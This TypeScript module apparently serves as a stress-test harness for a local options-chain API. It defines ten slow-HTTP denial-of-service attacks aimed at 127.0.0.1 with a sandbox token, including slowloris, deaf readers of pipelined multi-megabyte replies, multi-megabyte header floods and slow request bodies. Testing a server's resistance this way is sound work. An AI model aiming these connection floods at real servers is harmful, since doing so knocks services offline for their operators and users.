/** Ways to wear a server out, each over one connection: what it sends first, and what it does as long as the connection lasts. */
import type * as Net from "node:net"

/** One way. */
export interface Attack {
  readonly name: string
  /** How many connections of it there are at a time, in a siege of size 1. */
  readonly connections: number
  /** Runs once it is connected; returns what is to be done every second, where there is something. */
  readonly begin: (socket: Net.Socket) => (() => void) | undefined
  /** Set where it does not read what comes. */
  readonly isDeaf?: boolean
}

const host = "Host: 127.0.0.1"
const token = "Authorization: Bearer sandbox-paid"
const head = (target: string, ...fields: ReadonlyArray<string>): string =>
  [`GET ${target} HTTP/1.1`, host, token, ...fields, "", ""].join("\r\n")

/** A chain of 4 MB: all expirations, all strikes, all columns. */
const wholeChain = "/v1/options/chain/SPX/?mode=cached&expiration=all"
const smallChain = "/v1/options/chain/AAPL/?mode=cached&columns=strike&strikeLimit=1"

const megabyte = 1_000_000

/** Fields of so many bytes in all. */
const fieldsOf = (bytes: number): string => `x-filler: ${"x".repeat(1010)}\r\n`.repeat(Math.ceil(bytes / 1022))

/** Twenty megabytes of header fields, in pieces that are the same each time. */
const filler = Buffer.from(fieldsOf(megabyte))

/** So many replies are more than what the system holds for a reader that does not come. */
const more = 50

/** Takes a kilobyte. An empty line before a request means nothing, but shows whether the connection is still there. */
const readSlowly = (socket: Net.Socket): void => {
  socket.read(1024)
  socket.write("\r\n")
}

/** Every attack. */
export const all: ReadonlyArray<Attack> = [
  {
    name: "slowloris",
    connections: 300,
    begin: (socket) => {
      socket.write(`GET / HTTP/1.1\r\n${host}\r\n`)
      return () => socket.write("x-a: b\r\n")
    }
  },
  {
    name: "silent connections",
    connections: 300,
    begin: () => undefined
  },
  {
    name: "half requests",
    connections: 100,
    begin: (socket) => void socket.end(`GET ${smallChain} HTTP/1.1\r\n${host}\r\nx-a`)
  },
  {
    name: "slow readers",
    connections: 20,
    isDeaf: true,
    begin: (socket) => {
      socket.write(head(wholeChain).repeat(more))
      return () => readSlowly(socket)
    }
  },
  {
    name: "slow readers of gzip",
    connections: 20,
    isDeaf: true,
    begin: (socket) => {
      socket.write(head(wholeChain, "Accept-Encoding: gzip").repeat(more))
      return () => readSlowly(socket)
    }
  },
  {
    name: "deaf readers of many replies",
    connections: 10,
    isDeaf: true,
    begin: (socket) => {
      socket.write(head(wholeChain).repeat(1000))
      return () => socket.write("\r\n")
    }
  },
  {
    name: "20 MB of header fields",
    connections: 20,
    begin: (socket) => {
      socket.write(`GET / HTTP/1.1\r\n${host}\r\n`)
      let left = 20
      const more = (): void => {
        while (left-- > 0 && !socket.destroyed) if (!socket.write(filler)) return void socket.once("drain", more)
      }
      more()
      return undefined
    }
  },
  {
    name: "1 MB of header fields, held",
    connections: 100,
    begin: (socket) => {
      socket.write(`GET / HTTP/1.1\r\n${host}\r\n`)
      socket.write(filler)
      return () => socket.write("x-a: b\r\n")
    }
  },
  {
    name: "1 MB of request line, held",
    connections: 50,
    begin: (socket) => {
      socket.write(`GET /${"x".repeat(megabyte)}`)
      return () => socket.write("x")
    }
  },
  {
    name: "slow bodies",
    connections: 100,
    begin: (socket) => {
      socket.write(`PUT /sandbox/faults HTTP/1.1\r\n${host}\r\nContent-Length: 60000\r\n\r\n`)
      return () => socket.write(" ")
    }
  }
]
